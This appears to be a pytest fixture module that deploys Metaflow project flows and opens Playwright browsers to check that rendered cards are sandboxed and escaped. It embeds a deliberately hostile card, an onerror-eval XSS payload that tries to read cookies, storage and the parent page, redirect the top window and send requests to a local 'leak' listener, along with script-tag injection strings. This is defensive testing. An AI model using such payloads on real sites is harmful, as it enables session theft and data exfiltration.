"""A world made by flows really run, and a real browser that walks it."""

from __future__ import annotations

import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Browser, ConsoleMessage, Page, Request

from tests.conftest import Site
from tests.obproject.flows import run_flow, write_flow
from tests.places import CHECKOUT

DESK, PHONE = (1440, 900), (390, 844)

# The card of `trap` tries what a card must not be able to do, and writes down what came of it. It is put into its page
# as text, where a script element would not run but the error of an image does.
PRODUCER = """
    from metaflow import card, current, step
    from metaflow.cards import Markdown, Table
    from obproject import ProjectFlow

    HOSTILE = '''<h1>A hostile card</h1><ul id="out"></ul><pre hidden id="attack">
    function say(what) {
        const line = document.createElement("li");
        line.textContent = what;
        document.getElementById("out").append(line);
    }
    function attempt(name, act) {
        try { say(name + ": " + act()); } catch (error) { say(name + ": refused"); }
    }
    attempt("cookie", () => document.cookie || "none");
    attempt("parent", () => window.parent.document.title);
    attempt("storage", () => String(window.localStorage.length));
    attempt("top", () => { window.top.location = "/admin/"; return "moved"; });
    fetch("/v1/me").then(() => say("site: reached"), () => say("site: refused"));
    fetch("http://127.0.0.1:OUTSIDE/leak").then(() => say("world: reached"), () => say("world: refused"));
    new Image().src = "http://127.0.0.1:OUTSIDE/pixel?" + Math.random();
    </pre><img alt="" src="data:," onerror="eval(document.getElementById('attack').textContent)">'''

    class ProducerFlow(ProjectFlow):
        @card(type="blank", id="report")
        @card(type="blank", id="notes")
        @step
        def start(self):
            self.rows = [1, 2, 3]
            current.card["notes"].append(Markdown("A second card"))
            current.card["report"].append(Markdown("# Three good rows"))
            current.card["report"].append(Table([["a", 1], ["b", 2]], headers=["name", "value"]))
            self.prj.register_data("rows", "rows", annotations={"count": 3, "share": 0.5}, tags={"env": "test"})
            self.next(self.end)

        @card(type="blank")
        @step
        def end(self):
            current.card.append(Markdown(HOSTILE))
            self.prj.register_data("trap", "rows")

    if __name__ == "__main__":
        ProducerFlow()
"""
CONSUMER = """
    from metaflow import step
    from obproject import ProjectFlow

    class ConsumerFlow(ProjectFlow):
        @step
        def start(self):
            self.rows = self.prj.get_data("rows")
            self.report = "<script>alert(1)</script>"
            self.prj.register_data("report", "report", description="<b>bold</b> & co", tags={"<i>": "<script>"})
            self.next(self.end)

        @step
        def end(self):
            pass

    if __name__ == "__main__":
        ConsumerFlow()
"""
README = (
    "## About\n\nSome *rows* <script>alert(1)</script>, and [far below](#far-below) more.\n\n"
    + "A paragraph.\n\n" * 60
    + f"## Far below\n\n```\n{'word ' * 60}\n```\n\n| {' | '.join('abcdefghijklmnop')} |\n{'|--' * 16}|\n"
)
DEFINITION = """
name = "Rows of the world"
id = "rows"
description = "A few rows, made anew by each run"
[properties]
owner = "data team"
"""
TOML = 'project = "world"\ntitle = "A small world"\n'


@dataclass
class World:
    site: Site
    leaks: list[str]
    """What reached the server outside, which nothing must."""

    def url(self, path: str = "") -> str:
        return f"{self.site.url}/{path}"


def _deploy(site: Site, folder: Path, branch: str) -> None:
    command = [sys.executable, "-m", "obproject.deploy", "--branch", branch]
    env = site.env | {"ASSETSITE_URL": site.url, "PYTHONPATH": str(CHECKOUT)}
    subprocess.run(command, cwd=folder, env=env, check=True, capture_output=True)


def _folder(parent: Path, name: str, flow: str, toml: str = TOML) -> Path:
    folder = parent / name
    (folder / "data/rows").mkdir(parents=True)
    write_flow(folder, flow, toml)
    (folder / "data/rows/asset_config.toml").write_text(DEFINITION)
    (folder / "data/rows/README.md").write_text(README)
    (folder / "README.md").write_text("# A small world\n\nIt is [small](https://example.com).\n")
    return folder


@contextmanager
def outside() -> Iterator[tuple[int, list[str]]]:
    """A server elsewhere, for what a card may try to send out: its port, and the addresses that it was asked for."""
    asked: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port, asked
        server.shutdown()


@pytest.fixture(scope="session")
def world(served: Site, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The project `world`: `rows` on main twice and on user.alice once; feature/x reads main's and writes `report`."""
    home = tmp_path_factory.mktemp("world")
    with outside() as (port, leaks):
        producer = PRODUCER.replace("OUTSIDE", str(port))
        main = _folder(home, "main", producer)
        _deploy(served, main, "main")
        as_deployed = ("--config", "project_spec", "project_spec.json")
        for folder, options in ((main, as_deployed), (main, as_deployed), (_folder(home, "own", producer), ())):
            run = run_flow(folder, served.url, *options)
            assert run.ok, run.output
        feature = _folder(home, "feature", CONSUMER, TOML + '[dev-assets]\nbranch = "main"\n')
        _deploy(served, feature, "feature/x")
        run = run_flow(feature, served.url, *as_deployed)
        assert run.ok, run.output
        yield World(served, leaks)


@dataclass
class Watched:
    """A page, and all that it complained about and asked for."""

    page: Page
    errors: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)

    def note_console(self, message: ConsoleMessage) -> None:
        if message.type == "error":
            self.errors.append(message.text)

    def note_request(self, request: Request) -> None:
        self.requests.append(request.url)

    def scrolls_sideways(self) -> bool:
        return self.page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth")


@pytest.fixture
def open_page(browser: Browser) -> Iterator[Callable[..., Watched]]:
    contexts = []

    def open_page(size: tuple[int, int] = DESK, scheme: str = "light", scripts: bool = True) -> Watched:
        context = browser.new_context(
            viewport={"width": size[0], "height": size[1]},
            color_scheme=scheme,
            java_script_enabled=scripts,
            ignore_https_errors=True,  # the certificate of test_proxy.py is signed by nobody
        )
        contexts.append(context)
        watched = Watched(context.new_page())
        watched.page.on("console", watched.note_console)
        watched.page.on("pageerror", lambda error: watched.errors.append(str(error)))
        watched.page.on("request", watched.note_request)
        watched.page.set_default_timeout(15_000)
        return watched

    yield open_page
    for context in contexts:
        context.close()
